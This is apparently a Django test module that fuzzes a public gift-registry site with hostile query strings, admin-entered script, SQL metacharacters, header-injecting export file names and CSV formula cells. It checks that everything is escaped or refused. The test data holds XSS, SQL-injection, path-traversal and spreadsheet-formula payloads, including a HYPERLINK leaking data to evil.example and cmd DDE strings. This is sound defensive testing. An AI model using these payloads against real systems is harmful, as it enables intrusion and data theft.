"""Hostile input: generated query strings, script injected through the admin, SQL
metacharacters and huge strings in search, hostile export file names, spreadsheet
formulas in an imported CSV.

The public site must answer every request without a server error, and must never let
text an editor typed run as markup in a reader's browser.
"""

import csv
import io
import json
import os
import re
import tempfile
import xml.etree.ElementTree as ET
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

from django.contrib.auth.models import User
from django.core.management import call_command
from django.db.models import URLField
from django.test import Client, SimpleTestCase, TestCase
from django.utils.html import escape
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase as HypothesisTestCase

from giftapp.demo import load_demo
from giftapp.exports.interchange import HEADER
from giftapp.importers.pipeline import run_import
from giftapp.models import Gift, Leader, SanctionsFlag, SanctionsRegime, Source, Visit
from giftapp.urls import GIFT_LIST_PARAMS

from .factories import make_regime, make_staff
from .pages_support import SITE_SCRIPT
from .test_import_registry_csv import row as registry_row

# 60 examples per group keeps the suite fast (some 700 requests); `make fuzz` draws 910 a
# group, over 10,000 requests.
FUZZ = settings(
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", "60")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# Every parameter a public page reads (docs/design.md), and a few it does not.
PARAMETERS = [
    "q",
    "giver_country",
    "recipient_country",
    "country",
    "giver",
    "recipient",
    "leader",
    "visit",
    "category",
    "date_from",
    "date_to",
    "value_min",
    "value_max",
    "currency",
    "flagged",
    "regime",
    "flag_status",
    "sort",
    "page",
    "format",
    "year_from",
    "year_to",
    "cursor",
    "page_size",
    "kind",
    "status",
    "register",
    "gift",
]
NASTY_VALUES = [
    "",
    " ",
    "'",
    '"',
    "\\",
    "%",
    "%s",
    "100%",
    "_",
    "*",
    "' OR '1'='1",
    "1; DROP TABLE giftapp_gift; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: x=1",
    "\u202egpj.exe",
    "\ud7ff\ufffd\U0001f600",
    "-1",
    "0",
    "00",
    "1e309",
    "NaN",
    "Infinity",
    "-Infinity",
    "9" * 40,
    "1" * 400,
    "١٢٣",  # Arabic-Indic digits
    "𝟗",
    "2024-02-30",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "99999-01-01",
    "2024-06",
    "2024",
    "kp",
    "KP",
    "xx",
    "su",
    "-date",
    "--date",
    "yes",
    "YES",
    "csv",
    "json",
    "html",
    "UN-SC1718",
    "kim-jong-un",
    "Kim Jong Un",
    "tableware",
]
values = st.one_of(
    st.sampled_from(NASTY_VALUES),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    # Huge strings: one character repeated up to 20,000 times.
    st.builds(lambda c, n: c * n, st.characters(codec="utf-8"), st.integers(200, 20_000)),
)
keys = st.one_of(st.sampled_from(PARAMETERS), st.text(max_size=20))
# Raw query-string pieces a client could send that no form would: bad escapes,
# bytes that are not UTF-8, separators in odd places.
raw_pieces = st.sampled_from(
    ["%", "%ZZ", "%FF%FE", "%C0%AF", "%00", "&&", "==", "=&=", "q", ";", "+", "%2B", "%26q%3D1"]
)


@st.composite
def query_strings(draw):
    pairs = draw(st.lists(st.tuples(keys, values), max_size=8))
    # Repeated keys: the same parameter again, with other values.
    if pairs and draw(st.booleans()):
        key = pairs[0][0]
        pairs += [(key, value) for value in draw(st.lists(values, min_size=1, max_size=4))]
    parts = [f"{quote(key, safe='')}={quote(value, safe='')}" for key, value in pairs]
    parts += draw(st.lists(raw_pieces, max_size=3))
    return "&".join(draw(st.permutations(parts)))


# Every request the hostile-input tests send, and how many a server error answered: the
# summary of the run prints them (tests/conftest.py).
SENT = Counter()


def fetch(client, url):
    """GET the URL and read the whole body (exports stream: errors surface while read)."""
    response = client.get(url)
    SENT["requests"] += 1
    SENT["5xx"] += response.status_code >= 500
    if response.streaming:
        response.body = b"".join(response.streaming_content)
    else:
        response.body = response.content
    return response


class GeneratedQueryStringTests(HypothesisTestCase):
    """Every public URL answers any query string without a server error."""

    @classmethod
    def setUpTestData(cls):
        load_demo()
        gift = Gift.objects.public().first()
        visit = Visit.objects.published().first()
        leader = Leader.objects.filter(gifts_given__publication_status="published").first()
        regime = SanctionsRegime.objects.first()
        cls.groups = {
            "index pages": ["/", "/about/", "/visits/", "/leaders/", "/countries/", "/sanctions/"],
            "gift list": ["/gifts/"],
            "exports": ["/gifts/?format=csv", "/gifts/?format=json"],
            "detail pages": [
                f"/gifts/{gift.pk}/",
                f"/visits/{visit.slug}/",
                f"/leaders/{leader.slug}/",
                "/countries/KP/",
                f"/sanctions/{regime.code}/",
            ],
            "timeline": ["/timeline/"],
            "feeds": ["/feeds/gifts/", "/feeds/flags/"],
            "api": [
                "/api/v1/gifts/",
                f"/api/v1/gifts/{gift.pk}/",
                "/api/v1/leaders/",
                f"/api/v1/leaders/{leader.slug}/",
                "/api/v1/visits/",
                "/api/v1/countries/",
                f"/api/v1/sanctions/{regime.code}/",
                "/api/v1/flags/",
                "/api/v1/entries/",
            ],
        }

    def check(self, group, data):
        url = data.draw(st.sampled_from(self.groups[group]), label="url")
        query = data.draw(query_strings(), label="query")
        separator = "&" if "?" in url else "?"
        response = fetch(self.client, f"{url}{separator}{query}" if query else url)
        for _ in range(2):
            # A page drops parameters it does not read and repeated values, the gift list
            # blank ones, by redirecting: at most once each.
            if response.status_code not in (301, 302):
                break
            response = fetch(self.client, response["Location"])
        event(f"{group}: HTTP {response.status_code}")
        self.assertLess(response.status_code, 500)
        self.assertIn(response.status_code, {200, 400, 404})

    @FUZZ
    @given(st.data())
    def test_index_pages_never_fail(self, data):
        self.check("index pages", data)

    @FUZZ
    @given(st.data())
    def test_the_gift_list_never_fails(self, data):
        self.check("gift list", data)

    @FUZZ
    @given(st.data())
    def test_the_exports_never_fail(self, data):
        self.check("exports", data)

    @FUZZ
    @given(st.data())
    def test_detail_pages_never_fail(self, data):
        self.check("detail pages", data)

    @FUZZ
    @given(st.data())
    def test_the_timeline_never_fails(self, data):
        self.check("timeline", data)

    @FUZZ
    @given(st.data())
    def test_the_feeds_never_fail(self, data):
        self.check("feeds", data)

    @FUZZ
    @given(st.data())
    def test_the_api_never_fails(self, data):
        self.check("api", data)

    def test_a_nul_byte_in_a_detail_url_is_a_404(self):
        # PostgreSQL refuses NUL in a query: found by the test below.
        for url in ["/sanctions/%00/", "/sanctions/UN-SC1718%00/", "/visits/%00/",
                    "/api/v1/leaders/%00/", "/api/v1/sanctions/%00/"]:  # fmt: skip
            with self.subTest(url=url):
                self.assertEqual(self.client.get(url).status_code, 404)

    @FUZZ
    @given(st.text(max_size=300))
    def test_any_path_segment_in_a_detail_url_is_a_page_or_a_404(self, segment):
        segment = quote(segment, safe="")
        for url in [
            f"/gifts/{segment}/",
            f"/visits/{segment}/",
            f"/leaders/{segment}/",
            f"/countries/{segment}/",
            f"/sanctions/{segment}/",
            f"/api/v1/gifts/{segment}/",
            f"/api/v1/leaders/{segment}/",
            f"/api/v1/visits/{segment}/",
            f"/api/v1/countries/{segment}/",
            f"/api/v1/sanctions/{segment}/",
        ]:
            response = fetch(self.client, url)
            self.assertIn(response.status_code, {200, 301, 302, 404, 410}, url)


class FormFields(HTMLParser):
    """The fields of an HTML form as a browser would submit them (submit buttons aside)."""

    def __init__(self, form_id):
        super().__init__(convert_charrefs=True)
        self.form_id, self.inside = form_id, False
        self.data, self.text_fields = {}, []
        self.select = self.textarea = None

    def add(self, name, value):
        self.data.setdefault(name, []).append(value)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.inside = attrs.get("id") == self.form_id
        if not self.inside or "name" not in attrs and tag != "option":
            return
        if tag == "input":
            kind = attrs.get("type", "text")
            if kind in ("checkbox", "radio"):
                if "checked" in attrs:
                    self.add(attrs["name"], attrs.get("value", "on"))
            elif kind not in ("submit", "button", "file", "image", "reset"):
                self.add(attrs["name"], attrs.get("value", ""))
                if kind in ("text", "url") and "vDateField" not in attrs.get("class", ""):
                    self.text_fields.append(attrs["name"])
        elif tag == "textarea":
            self.textarea = attrs["name"]
            self.add(self.textarea, "")
            self.text_fields.append(self.textarea)
        elif tag == "select":
            self.select = attrs["name"]
            self.data.setdefault(self.select, [])
        elif tag == "option" and self.select and "selected" in attrs:
            self.add(self.select, attrs.get("value", ""))

    def handle_data(self, data):
        if self.textarea:
            self.data[self.textarea][-1] += data

    def handle_endtag(self, tag):
        if tag == "textarea":
            self.textarea = None
        elif tag == "select":
            self.select = None
        elif tag == "form":
            self.inside = False


def form_fields(response, form_id):
    parser = FormFields(form_id)
    parser.feed(response.content.decode())
    return parser


class MarkupAudit(HTMLParser):
    """Anything in a page that a browser would run: a <script> not loaded from the
    site's static files, an on…= handler, a javascript: URL, an injected element."""

    def __init__(self, allowed_scripts=()):
        super().__init__(convert_charrefs=True)
        self.allowed_scripts = allowed_scripts
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        position = self.getpos()
        if tag == "script" and not (attrs.get("src") or "").startswith(
            self.allowed_scripts or ("\0",)
        ):
            self.problems.append(f"<script {attrs}> at {position}")
        if tag == "img" and attrs.get("src") == "x":
            self.problems.append(f"injected <img> at {position}")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}> at {position}")
            if name in ("href", "src", "action", "formaction", "xlink:href") and re.match(
                r"\s*(javascript|vbscript|data):", value or "", re.I
            ):
                self.problems.append(f"{name}={value!r} on <{tag}> at {position}")

    handle_startendtag = handle_starttag


def audit(html, allowed_scripts=()):
    parser = MarkupAudit(allowed_scripts)
    parser.feed(html)
    parser.close()
    return parser.problems


class AuditTests(SimpleTestCase):
    def test_the_audit_finds_markup_that_would_run_and_passes_escaped_text(self):
        text = payload("Xmarker")
        self.assertEqual(len(audit(f"<p>{text}</p>")), 3)  # script, img, onerror
        self.assertEqual(
            audit('<a href=" javascript:alert(1)">x</a>'),
            ["href=' javascript:alert(1)' on <a> at (1, 0)"],
        )
        self.assertEqual(audit(f"<p>{escape(text)}</p><a href='/gifts/'>x</a>"), [])
        self.assertEqual(
            audit('<script src="/static/admin/js/core.js"></script>', ADMIN_SCRIPTS), []
        )


def payload(marker, max_length=None):
    """Markup that runs if a page forgets to escape it, tagged so it can be found."""
    text = f"<script>alert(1)</script><img src=x onerror=alert(1)>{marker}"
    if max_length and len(text) > max_length:
        text = f"<img src=x onerror=alert(1)>{marker}"[:max_length]
    return text


# Text fields whose format is validated (a slug, a Q-number, a regime code) cannot carry
# markup; a retraction reason is set by the retract action, tested on its own.
SKIPPED_FIELDS = {"slug", "wikidata_id", "code", "retraction_reason"}
ADMIN_SCRIPTS = ("/static/admin/", "/admin/jsi18n/")
SITE_SCRIPTS = ("/static/js/",)  # the public pages' own, from the site's static files


def save_through_the_admin(client, record):
    """Open the record's change form, put a payload in each of its text fields, save.

    Returns (marker, text) for each payload planted."""
    opts = record._meta
    url = f"/admin/{opts.app_label}/{opts.model_name}/{record.pk}/change/"
    form = form_fields(client.get(url), f"{opts.model_name}_form")
    planted = []
    for name in form.text_fields:
        # Inline rows ("flags-0-provisions") are left as they are: each record gets its
        # payloads through its own change form.
        if "-" in name or name in SKIPPED_FIELDS:
            continue
        field = opts.get_field(name)
        marker = f"X{opts.model_name}.{name}"
        if isinstance(field, URLField):
            text = f'https://evil.example/"><script>alert(1)</script>?{marker}'
        else:
            text = payload(marker, getattr(field, "max_length", None))
        form.data[name] = [text]
        planted.append((marker, text))
    response = client.post(url, form.data | {"_save": ["Save"]})
    if response.status_code != 302:
        errors = re.findall(r'<ul class="errorlist[^>]*>(.*?)</ul>', response.content.decode())
        raise AssertionError(f"The admin refused {url}: {errors}")
    return planted


class ScriptThroughTheAdminTests(TestCase):
    """An editor (or whoever took an editor's account) types markup into every text field
    of every record in the admin; readers must only ever get it as text."""

    @classmethod
    def setUpTestData(cls):
        load_demo()
        cls.chief = make_staff("chief", superuser=True)
        client = Client()
        client.force_login(cls.chief)
        cls.planted = []
        for model in (Source, Leader, Visit, Gift, SanctionsRegime, SanctionsFlag):
            for record in model.objects.all():
                cls.planted += save_through_the_admin(client, record)
        cls.texts = dict(cls.planted)

    def public_pages(self):
        urls = [
            "/",
            "/about/",
            "/gifts/",
            "/gifts/?q=script",
            *[gift.get_absolute_url() for gift in Gift.objects.public()],
            "/visits/",
            *[visit.get_absolute_url() for visit in Visit.objects.published()],
            "/timeline/",
            "/leaders/",
            *[leader.get_absolute_url() for leader in Leader.objects.all()],
            "/countries/",
            "/countries/KP/",
            "/countries/RU/",
            "/sanctions/",
            *[regime.get_absolute_url() for regime in SanctionsRegime.objects.all()],
        ]
        return {url: self.client.get(url) for url in urls}

    def test_every_text_field_of_every_model_took_a_payload(self):
        fields = {marker.split(".")[0] for marker in self.texts}
        self.assertEqual(
            fields,
            {"Xsource", "Xleader", "Xvisit", "Xgift", "Xsanctionsregime", "Xsanctionsflag"},
        )
        self.assertEqual(Gift.objects.filter(item=self.texts["Xgift.item"]).count(), 6)
        self.assertGreaterEqual(len(self.texts), 30)

    def test_public_pages_show_every_payload_as_text_and_run_none(self):
        pages = self.public_pages()
        for url, response in pages.items():
            with self.subTest(url=url):
                self.assertEqual(response.status_code, 200)
                self.assertNotIn("<script", SITE_SCRIPT.sub("", response.content.decode()))
                self.assertEqual(audit(response.content.decode(), SITE_SCRIPTS), [])
        everything = "".join(response.content.decode() for response in pages.values())
        not_shown = [
            marker for marker, text in self.texts.items() if escape(text) not in everything
        ]
        self.assertEqual(not_shown, [])

    def test_the_feeds_are_well_formed_and_their_html_runs_nothing(self):
        atom = "{http://www.w3.org/2005/Atom}"
        for url in ("/feeds/gifts/", "/feeds/flags/"):
            with self.subTest(url=url):
                response = self.client.get(url)
                feed = ET.fromstring(response.content)
                entries = feed.findall(f"{atom}entry")
                self.assertTrue(entries)
                for entry in entries:
                    # A text construct is shown as text: the payload, verbatim.
                    self.assertIn("<script>alert(1)</script>", entry.findtext(f"{atom}title"))
                    summary = entry.find(f"{atom}summary")
                    self.assertEqual(summary.get("type"), "html")
                    self.assertIn("&lt;script&gt;", summary.text)
                    self.assertEqual(audit(summary.text), [])
                    for link in entry.iter(f"{atom}link"):
                        self.assertTrue(link.get("href").startswith("http://testserver/"))

    def test_the_exports_carry_the_text_as_data_with_safe_headers(self):
        for export_format in ("csv", "json"):
            with self.subTest(export_format=export_format):
                response = self.client.get(f"/gifts/?format={export_format}")
                body = b"".join(response.streaming_content).decode()
                self.assertEqual(response["X-Content-Type-Options"], "nosniff")
                self.assertTrue(response["Content-Disposition"].startswith("attachment; "))
                if export_format == "csv":
                    self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
                    rows = list(csv.DictReader(io.StringIO(body)))
                else:
                    self.assertEqual(response["Content-Type"], "application/json; charset=utf-8")
                    rows = json.loads(body)
                self.assertEqual(len(rows), 6)
                for row in rows:
                    for column in ("item", "description", "notes", "giver", "value_note"):
                        self.assertEqual(
                            row[column],
                            self.texts[f"Xgift.{column}"]
                            if column != "giver"
                            else self.texts["Xleader.name"],
                        )

    def test_the_admin_shows_the_payloads_as_text(self):
        self.client.force_login(self.chief)
        gift = Gift.objects.first()
        for url in [
            "/admin/giftapp/gift/",
            f"/admin/giftapp/gift/{gift.pk}/change/",
            f"/admin/giftapp/gift/{gift.pk}/history/",
            "/admin/giftapp/visit/",
            f"/admin/giftapp/visit/{Visit.objects.first().pk}/change/",
            "/admin/giftapp/leader/",
            "/admin/giftapp/source/",
            "/admin/giftapp/sanctionsflag/",
            "/admin/review-queue/",
            "/admin/data-quality/",
        ]:
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(audit(response.content.decode(), ADMIN_SCRIPTS), [])

    def test_a_retraction_reason_shows_as_text_on_the_gone_page(self):
        self.client.force_login(self.chief)
        gift = Gift.objects.public().first()
        reason = payload("Xgift.retraction_reason")
        response = self.client.post(
            "/admin/giftapp/gift/",
            {
                "action": "retract_selected",
                "_selected_action": [gift.pk],
                "apply": "1",
                "reason": reason,
            },
        )
        self.assertEqual(response.status_code, 302)
        page = self.client.get(gift.get_absolute_url())
        self.assertContains(page, escape(reason), status_code=410)
        self.assertEqual(audit(page.content.decode()), [])

    def test_a_javascript_url_is_refused_by_the_admin(self):
        self.client.force_login(self.chief)
        source = Source.objects.first()
        url = f"/admin/giftapp/source/{source.pk}/change/"
        form = form_fields(self.client.get(url), "source_form")
        for hostile in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>"):
            with self.subTest(url=hostile):
                form.data["url"] = [hostile]
                response = self.client.post(url, form.data | {"_save": ["Save"]})
                self.assertContains(response, "Enter a valid URL.")
        for hostile, message in (
            ("ftp://files.example/gift.pdf", "beginning with http:// or https://"),
            ("https://a.example/" + "x" * 600, "at most 500 characters"),
        ):
            with self.subTest(url=hostile[:40]):
                form.data["url"] = [hostile]
                response = self.client.post(url, form.data | {"_save": ["Save"]})
                self.assertContains(response, message)  # a form error, never a 500
        source.refresh_from_db()
        self.assertTrue(source.url.startswith("https://evil.example/"))

    def test_a_source_url_that_is_no_web_address_is_refused_by_an_import(self):
        rows = [
            registry_row(id="9001", sources="javascript:alert(1)"),
            registry_row(id="9002", sources="https://a.example/" + "x" * 600),
            registry_row(id="9003", sources="ftp://files.example/gift.pdf"),
            registry_row(id="9004", sources="https://fine.example/notice"),
        ]
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=HEADER, lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
        result = run_import(
            io.BytesIO(out.getvalue().encode()), "registry", file_name="f.csv", skip_invalid=True
        )
        refused = {(p.line, p.column) for p in result.problems}
        self.assertEqual(refused, {(2, "sources"), (3, "sources"), (4, "sources")})
        self.assertTrue(any("http:// or https://" in p.reason for p in result.problems))
        self.assertTrue(any("at most 500 characters" in p.reason for p in result.problems))
        urls = set(Source.objects.values_list("url", flat=True))
        self.assertIn("https://fine.example/notice", urls)
        self.assertFalse({u for u in urls if not u.startswith(("http://", "https://"))})
        self.assertTrue(Gift.objects.filter(pk=9004).exists())
        self.assertFalse(Gift.objects.filter(pk__in=[9001, 9002, 9003]).exists())


SQL_METACHARACTERS = [
    "'",
    "''",
    '"',
    "\\",
    "\\'",
    "%",
    "_",
    "%_%",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE giftapp_gift; --",
    "'); DELETE FROM giftapp_gift; --",
    "' UNION SELECT username, password FROM auth_user --",
    "/* comment */",
    "$$",
    "E'\\x41'",
    "\x00",
    "tea\x00set",
    "[a-z]*",
    "(?i).*",
]


class SearchTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        load_demo()
        cls.staff = make_staff("chief", superuser=True)

    def test_sql_metacharacters_in_search_break_nothing(self):
        gifts, users = Gift.objects.count(), User.objects.count()
        for q in SQL_METACHARACTERS:
            with self.subTest(q=q):
                response = self.client.get("/gifts/", {"q": q})
                self.assertEqual(response.status_code, 200)
                export = fetch(self.client, "/gifts/?format=csv&q=" + quote(q))
                self.assertIn(export.status_code, (200, 400))
        self.assertEqual(Gift.objects.count(), gifts)
        self.assertEqual(User.objects.count(), users)

    def test_injected_conditions_match_nothing(self):
        # Search folds punctuation to spaces (as in "Jong-un"), so what is left is words,
        # matched as text: none of these words is in the demo.
        for q in [
            "' OR '1'='1",
            "' OR 1=1 --",
            "1; DROP TABLE giftapp_gift; --",
            "'); DELETE FROM giftapp_gift; --",
            "' UNION SELECT username, password FROM auth_user --",
            "/* comment */",
            "E'\\x41'",
        ]:
            with self.subTest(q=q):
                response = self.client.get("/gifts/", {"q": q})
                self.assertEqual(response.context["total"], 0)

    def test_like_wildcards_in_a_word_are_not_wildcards(self):
        self.assertContains(self.client.get("/gifts/", {"q": "pungsan"}), "Pungsan")
        for q in ("pungs%n", "pun_san", "%sang%", "pung[s]an", "p_ngsan"):
            with self.subTest(q=q):
                self.assertNotContains(self.client.get("/gifts/", {"q": q}), "Pungsan hunting")

    def test_a_100_kilobyte_search_is_a_form_error_on_the_page_and_a_400_on_exports(self):
        q = "ü" * 50_000 + "x" * 50_000
        response = self.client.get("/gifts/", {"q": q})
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "Ensure this value has at most 200 characters")
        for export_format in ("csv", "json"):
            with self.subTest(export_format=export_format):
                export = self.client.get("/gifts/", {"q": q, "format": export_format})
                self.assertEqual(export.status_code, 400)
                self.assertLess(len(export.content), 2_000)

    def test_100_kilobytes_in_every_gift_list_parameter_is_never_a_server_error(self):
        huge = "<'\"%_" * 20_000
        for name in PARAMETERS:
            with self.subTest(parameter=name):
                response = fetch(self.client, "/gifts/?" + f"{name}={quote(huge)}")
                # A parameter the list does not read is redirected away unread.
                expected = (200, 400) if name in GIFT_LIST_PARAMS else (302,)
                self.assertIn(response.status_code, expected)

    def test_the_admin_search_takes_metacharacters_and_long_strings(self):
        # 10 kB, not 100: SQLite refuses LIKE patterns over 50,000 bytes, and the admin's
        # search does not bound its term (reported; PostgreSQL has no such limit).
        self.client.force_login(self.staff)
        for q in [*SQL_METACHARACTERS, "x" * 10_000]:
            for changelist in ("gift", "leader", "source"):
                with self.subTest(q=q[:30], changelist=changelist):
                    response = self.client.get(f"/admin/giftapp/{changelist}/", {"q": q})
                    self.assertEqual(response.status_code, 200)


SAFE_DISPOSITION = re.compile(r'attachment; filename="gifts-[A-Za-z0-9._-]+\.(csv|json)"')


class ExportFilenameTests(HypothesisTestCase):
    """The export's file name is built from the filters: nothing a reader typed may reach
    the Content-Disposition header but letters, digits, dots, dashes and underscores."""

    @classmethod
    def setUpTestData(cls):
        load_demo()

    def test_hostile_filter_values_leave_only_safe_characters(self):
        hostile = [
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            'a"; filename="evil.exe',
            "a\r\nSet-Cookie: session=stolen",
            "a\nX-Injected: 1",
            "\u202ecod.exe",
            "日本語の贈り物",
            "x" * 200,
            "%0d%0aLocation: http://evil.example",
            "file:///etc/passwd",
            ";",
            "'",
        ]
        for q in hostile:
            for export_format in ("csv", "json"):
                with self.subTest(q=q, export_format=export_format):
                    response = self.client.get(
                        "/gifts/", {"q": q, "category": "vehicle", "format": export_format}
                    )
                    self.assertEqual(response.status_code, 200)
                    self.assertRegex(
                        response["Content-Disposition"], f"^{SAFE_DISPOSITION.pattern}$"
                    )
                    self.assertNotIn("Set-Cookie", response)
                    self.assertNotIn("X-Injected", response)

    @FUZZ
    @given(q=st.text(max_size=200), date_from=st.sampled_from(["", "2024-06-01"]))
    def test_any_search_gives_a_safe_file_name_or_a_400(self, q, date_from):
        response = self.client.get("/gifts/", {"q": q, "date_from": date_from, "format": "json"})
        self.assertIn(response.status_code, (200, 400))
        if response.status_code == 200:
            self.assertRegex(response["Content-Disposition"], f"^{SAFE_DISPOSITION.pattern}$")
        else:
            self.assertNotIn("Content-Disposition", response)


FORMULAS = {
    "item": "=1+1",
    "description": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "value_note": "-2+3",
    "giver_as_reported": "@SUM(1+1)*cmd|' /C calc'!A0",
    "recipient_as_reported": "+cmd|' /C notepad'!A0",
    "notes": "\t=1+1",
}


class SpreadsheetFormulaTests(TestCase):
    """A register CSV whose cells are spreadsheet formulas, imported with the command line:
    stored as text, shown as text, exported neutralised, restored on the next import."""

    @classmethod
    def setUpTestData(cls):
        make_regime()

    def write_csv(self, directory, rows):
        path = Path(directory) / "register.csv"
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, HEADER, lineterminator="\r\n")
            writer.writeheader()
            writer.writerows(rows)
        return path

    def import_file(self, path, *options):
        call_command(
            "import_gifts",
            str(path),
            "--format",
            "registry",
            *options,
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )

    def row(self, **cells):
        return registry_row(**cells)

    def test_formulas_survive_as_text_through_import_pages_exports_and_reimport(self):
        with tempfile.TemporaryDirectory() as tmp:
            self.import_file(self.write_csv(tmp, [self.row(**FORMULAS)]), "--publish")
            gift = Gift.objects.get()
            for column, formula in FORMULAS.items():
                self.assertEqual(getattr(gift, column), formula, column)

            page = self.client.get(gift.get_absolute_url())
            self.assertContains(page, escape(FORMULAS["description"]))

            public_csv = b"".join(self.client.get("/gifts/?format=csv").streaming_content).decode()
            [public_row] = csv.DictReader(io.StringIO(public_csv))
            for column, formula in FORMULAS.items():
                self.assertEqual(public_row[column], "'" + formula, column)

            public_json = json.loads(
                b"".join(self.client.get("/gifts/?format=json").streaming_content)
            )
            for column, formula in FORMULAS.items():
                self.assertEqual(public_json[0][column], formula, column)

            everything = Path(tmp) / "all.csv"
            call_command("export_gifts", str(everything), "--all", stderr=io.StringIO())
            Gift.objects.all().delete()
            self.import_file(everything)
            again = Gift.objects.get()
            for column, formula in FORMULAS.items():
                self.assertEqual(getattr(again, column), formula, column)
            second = Path(tmp) / "again.csv"
            call_command("export_gifts", str(second), "--all", stderr=io.StringIO())
            self.assertEqual(second.read_bytes(), everything.read_bytes())

    def test_a_cell_that_already_starts_with_a_quote_keeps_it_through_the_round_trip(self):
        with tempfile.TemporaryDirectory() as tmp:
            # The importer takes one leading quote off: ''=1+1 in the file is '=1+1 stored.
            self.import_file(self.write_csv(tmp, [self.row(description="''=1+1")]))
            self.assertEqual(Gift.objects.get().description, "'=1+1")
            out = Path(tmp) / "all.csv"
            call_command("export_gifts", str(out), "--all", stderr=io.StringIO())
            [exported] = csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
            self.assertEqual(exported["description"], "''=1+1")
